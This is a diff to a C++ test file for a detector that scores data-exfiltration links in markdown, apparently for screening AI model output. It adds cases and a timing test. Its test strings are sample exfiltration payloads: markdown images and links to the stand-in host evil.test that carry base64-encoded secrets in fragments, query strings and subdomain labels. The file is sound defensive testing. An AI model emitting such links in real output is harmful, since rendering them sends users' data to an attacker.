@@ -1,6 +1,9 @@
 #include <gtest/gtest.h>
 #include <hs/hs.h>
 
+#include <algorithm>
+#include <chrono>
+#include <iostream>
 #include <random>
 #include <regex>
 
@@ -77,6 +80,9 @@ TEST(ExfilLinks, SeverityByChannelAndData) {
   // Fragments never reach the server when an image loads, but do when a link is followed.
   EXPECT_EQ(sev("![x](https://evil.test/x.png#aGVsbG8gd29ybGQgc2VjcmV0MQ)"), 6);
   EXPECT_EQ(sev("[x](https://evil.test/x#aGVsbG8gd29ybGQgc2VjcmV0MQ)"), 4);
+  // DNS exfiltration in a subdomain label.
+  EXPECT_EQ(sev("![x](https://n2vjcmv0ihbhc3n3b3jkoiaxmjm0nq.evil.test/p.png)"), 7);
+  EXPECT_EQ(sev("![x](https://images.cdn-01.evil.test/p.png)"), 6);
   // A git commit id in a path is ordinary, not data.
   EXPECT_EQ(sev("[c](https://git.test/r/commit/3f2a9c1d0e8b7a6f5e4d3c2b1a0f9e8d7c6b5a49)"), 2);
   // In documents web pages are full of images; only data-bearing ones are strong.
@@ -144,11 +150,43 @@ TEST(ExfilLinks, PatternsCoverPositiveCases) {
   for (const auto& p : detect::exfil_patterns())
     res.emplace_back(p.regex, std::regex::ECMAScript | (p.caseless ? std::regex::icase : std::regex::ECMAScript));
   for (const auto& c : testing::load_cases("exfil_links.cases")) {
-    if (!c.positive || c.subtype == "bare_url") continue;
+    // Character references are decoded by the detector, not by a regex.
+    if (!c.positive || c.subtype == "bare_url" || c.text.find('&') != std::string::npos) continue;
     bool any = false;
     for (const auto& re : res) any = any || std::regex_search(c.text, re);
     EXPECT_TRUE(any) << "line " << c.line << ": " << c.text;
   }
+}
+
+TEST(ExfilLinks, ScanOfFourKilobytesTiming) {
+  auto e = engine_with({{"allowed_hosts", "*.example.com"}});
+  ASSERT_TRUE(e);
+  // Assistant-style markdown: prose, code, allowed links, and one exfiltration image.
+  std::string text;
+  const char* parts[] = {"Here is the summary you asked for. ", "See [the docs](https://docs.example.com/a). ",
+                         "`a[i](j)` is a call. ", "<b>bold</b> and <a href=\"/rel\">rel</a>. ",
+                         "![chart](https://cdn.example.com/c.png) ", "Some more prose about billing.\n"};
+  for (size_t i = 0; text.size() < 4096; ++i) text += parts[i % 6];
+  text.resize(4000);
+  text += "![x](https://evil.test/?q=aGVsbG8gc2VjcmV0IHdvcmxk)";
+  auto scratch = e->new_scratch();
+  // Medians: the machine is shared, averages would measure the neighbours.
+  std::vector<double> total_us, detector_us;
+  size_t n = 0;
+  for (int i = 0; i < 500; ++i) {
+    auto r = e->scan({text, Role::kAssistant}, *scratch);
+    ASSERT_TRUE(r.ok());
+    n = r->findings.size();
+    total_us.push_back(r->total_nanos / 1000.0);
+    detector_us.push_back(r->timings.empty() ? 0.0 : r->timings[0].nanos / 1000.0);
+  }
+  std::nth_element(total_us.begin(), total_us.begin() + 250, total_us.end());
+  std::nth_element(detector_us.begin(), detector_us.begin() + 250, detector_us.end());
+  const double us = total_us[250];
+  EXPECT_EQ(n, 1u);
+  std::cout << "[ exfil.links ] scan of " << text.size() << " B, median: detector " << detector_us[250]
+            << " us, engine total " << us << " us (stub pipeline)\n";
+  EXPECT_LT(us, 20000.0);  // sanity bound against pathological behaviour, not a tuned figure
 }
 
 TEST(ExfilLinks, GarbageNeverCrashes) {
